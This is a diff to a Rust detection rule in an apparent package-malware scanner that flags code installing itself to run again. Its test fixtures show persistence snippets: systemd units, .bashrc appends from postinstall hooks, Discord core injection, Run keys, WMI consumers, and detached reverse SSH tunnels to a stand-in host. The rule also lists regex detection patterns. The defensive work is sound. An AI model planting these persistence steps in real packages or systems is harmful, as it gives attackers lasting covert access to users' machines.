@@ -9,14 +9,19 @@ crate::declare_rule! {
     /// crontab line, a macOS LaunchAgent/LaunchDaemon, a Windows Run key, scheduled task or
     /// Startup-folder file, commands appended to shell start-up files (.bashrc, .zshrc,
     /// .profile), or code written into another application's files (Discord's desktop core,
-    /// Electron `app.asar`). Scheduler tools do this when asked (`medium`); it is `critical` when
-    /// it runs at install time or sits beside network code in the same file (download, then
-    /// persist).
+    /// Electron `app.asar`), an XDG autostart `.desktop` entry, a WMI event subscription, system
+    /// start-up scripts (`/etc/rc.local`, `/etc/profile.d`, Winlogon, Image File Execution
+    /// Options, macOS login items), a reverse SSH tunnel (`ssh -R`). Scheduler tools do this when
+    /// asked (`medium`); it is `critical` when it runs at install time or sits beside network
+    /// code in the same file (download, then persist). Footholds that legitimate tools set up on
+    /// request count only at install time: AI agent and editor configuration (`.claude/settings.json`
+    /// hooks, MCP configs, `.vscode/tasks.json`), git hooks, a service worker written into the
+    /// app's `public` folder.
     id: "persistence",
     category: Other,
     severity: Medium,
     capability: Some(crate::model::Capability::FilesystemWrite),
-    title: "installs itself to run again (systemd, cron, launchd, Run key, shell rc, app patching)",
+    title: "installs itself to run again (systemd, cron, launchd, autostart, Run key, WMI, shell rc, agent hooks, app patching)",
     incident: "@0xengine/xmlrpc (2024) persisted a miner via systemd and cron; LofyGang (2022) rewrote Discord's desktop core; @typescript_eslinter/eslint (2024) wrote a Startup-folder .bat",
     case_file: "index.js",
     flag: ["const https = require('https'); https.get(u); fs.writeFileSync(path.join(home, '.config/systemd/user/x.service'), unit); execSync('systemctl --user enable --now x.service')",
@@ -24,10 +29,21 @@ crate::declare_rule! {
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node i.js\"}}\n=== i.js\nconst idx = path.join(mods, m, 'discord_desktop_core', 'index.js'); fs.writeFileSync(idx, inject)",
            "const startup = path.join(home, 'AppData', 'Roaming', 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup'); https.get(u, r => fs.writeFileSync(path.join(startup, 'x.bat'), b))",
-           "require('child_process').execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d ' + exe); fetch(u)"],
+           "require('child_process').execSync('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d ' + exe); fetch(u)",
+           "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\\nExec=' + bin); require('https').get(u)",
+           "require('child_process').execSync('powershell -c \"Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{}\"')",
+           "const cp = require('child_process'); cp.spawn('ssh', ['-N', '-R', '9000:localhost:22', 'u@h.example'], { detached: true })",
+           "const args = ['-o', 'StrictHostKeyChecking=no', '-N', '-R', '0:localhost:22', 'r@h.example'];\nrequire('child_process').spawn('ssh', args, { detached: true }); require('https').get(u)",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(process.env.INIT_CWD, '.claude', 'settings.json'), JSON.stringify(cfg))",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.writeFileSync(path.join(root, 'public', 'sw.js'), worker)",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node i.js\"}}\n=== i.js\nfs.appendFileSync(path.join(home, '.config', 'fish', 'config.fish'), line)"],
     pass: ["const rc = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8')",
            "// add `@reboot node server.js` to your crontab\nmodule.exports = {}",
-           "const parse = (line) => line.split(' '); // crontab syntax parser\nparse('* * * * * cmd')"],
+           "const parse = (line) => line.split(' '); // crontab syntax parser\nparse('* * * * * cmd')",
+           "const cp = require('child_process'); cp.execSync('ssh -T git@h.example'); cp.spawnSync('rm', ['-R', dir])",
+           "const fs = require('fs'); fs.writeFileSync(path.join(os.homedir(), '.cursor', 'mcp.json'), JSON.stringify({ mcpServers: { docs: { command: 'npx' } } }))",
+           "const fs = require('fs'); const list = fs.readdirSync(path.join(os.homedir(), '.config', 'autostart')); fs.writeFileSync('report.json', JSON.stringify(list))",
+           "const fs = require('fs'); fs.writeFileSync(path.join(out, 'public', 'sw.js'), generateSW(manifest))"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
@@ -64,8 +80,54 @@ fn check(pkg: &Package, out: &mut Emitter) {
             "another application's code",
             crate::regex!(r"discord_desktop_core|app\.asar['\x22`]"),
         ),
+        (
+            "an XDG autostart entry",
+            crate::regex!(
+                r"\.config(?:[/\\]|['\x22`]\s*,\s*['\x22`])autostart\b[^\n]{0,80}\.desktop\b|/etc/xdg/autostart/|X-GNOME-Autostart"
+            ),
+        ),
+        (
+            "a WMI event subscription",
+            crate::regex!(
+                r"__EventFilter|CommandLineEventConsumer|ActiveScriptEventConsumer|__FilterToConsumerBinding|Register-WmiEvent|Register-CimIndicationEvent"
+            ),
+        ),
+        (
+            "a system start-up script",
+            crate::regex!(
+                r"/etc/rc\.local|/etc/profile\.d/|/etc/init\.d/|(?i)Image File Execution Options|Winlogon\\{1,4}(Userinit|Shell)\b|make (new )?login item|Login Items"
+            ),
+        ),
+        (
+            "a reverse SSH tunnel",
+            crate::regex!(
+                r"\b(auto)?ssh\b[^\n]{0,160}?(\s|['\x22`]\s*,\s*['\x22`])-[NfTgC]*R['\x22`]?\s*,?\s*['\x22`]?(\d|0\.0\.0\.0|\*:|localhost)|['\x22`]-[NfTgC]*R['\x22`]\s*,\s*['\x22`](\d+|0\.0\.0\.0|\*|localhost):\w"
+            ),
+        ),
     ];
-    let rc = crate::regex!(r#"['"`/\\]\.(bashrc|zshrc|bash_profile|profile|zprofile)\b"#);
+    // Footholds that legitimate tools also set up on request (git hook managers, MCP and editor
+    // set-up commands, PWA plugins): they count at install time only.
+    let weak: &[(&str, &regex::Regex)] = &[
+        (
+            "an AI agent or editor configuration",
+            crate::regex!(
+                r"\.claude(?:[/\\]|['\x22`]\s*,\s*['\x22`])settings(\.local)?\.json|claude_desktop_config\.json|\.claude\.json['\x22`]|\.cursor(?:[/\\]|['\x22`]\s*,\s*['\x22`])mcp\.json|mcp_config\.json|\.gemini(?:[/\\]|['\x22`]\s*,\s*['\x22`])settings\.json|\.vscode(?:[/\\]|['\x22`]\s*,\s*['\x22`])(tasks|settings|mcp)\.json"
+            ),
+        ),
+        (
+            "a git hook",
+            crate::regex!(r"\.git(?:[/\\]|['\x22`]\s*,\s*['\x22`])hooks\b|core\.hooksPath"),
+        ),
+        (
+            "a service worker in the app's public folder",
+            crate::regex!(
+                r"\b(public|static|www)(?:[/\\]|['\x22`]\s*,\s*['\x22`])[\w.-]*(sw|service-?worker)[\w.-]*\.js"
+            ),
+        ),
+    ];
+    let rc = crate::regex!(
+        r#"['"`/\\]\.(bashrc|zshrc|bash_profile|bash_login|profile|zprofile|zshenv|zlogin|cshrc|tcshrc)\b|config\.fish\b|PowerShell_profile\.ps1"#
+    );
     for f in code_files(pkg) {
         if is_doc_path(&f.path) {
             continue;
@@ -93,7 +155,29 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 ".zshrc",
                 "_profile",
                 ".profile",
-                ".zprofile"
+                ".zprofile",
+                ".zshenv",
+                ".zlogin",
+                "config.fish",
+                "powershell_profile",
+                "autostart",
+                "eventfilter",
+                "eventconsumer",
+                "wmievent",
+                "cimindication",
+                "/etc/",
+                "image file execution",
+                "winlogon",
+                "login item",
+                "ssh",
+                ".claude",
+                "claude_desktop",
+                "mcp",
+                ".gemini",
+                ".vscode",
+                "hooks",
+                "sw.js",
+                "worker"
             ]
         ) {
             continue;
@@ -130,11 +214,19 @@ fn check(pkg: &Package, out: &mut Emitter) {
             found.push("a shell start-up file");
             first.get_or_insert(m.start());
         }
+        let install = pkg.is_install_file(f);
+        if found.is_empty() && install {
+            for (label, re) in weak {
+                if let Some(m) = re.find(text) {
+                    found.push(label);
+                    first.get_or_insert(m.start());
+                }
+            }
+        }
         if found.is_empty() {
             continue;
         }
         let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
-        let install = pkg.is_install_file(f);
         let net = crate::rules::data::has_network(f);
         let sev = if install || net {
             Severity::Critical
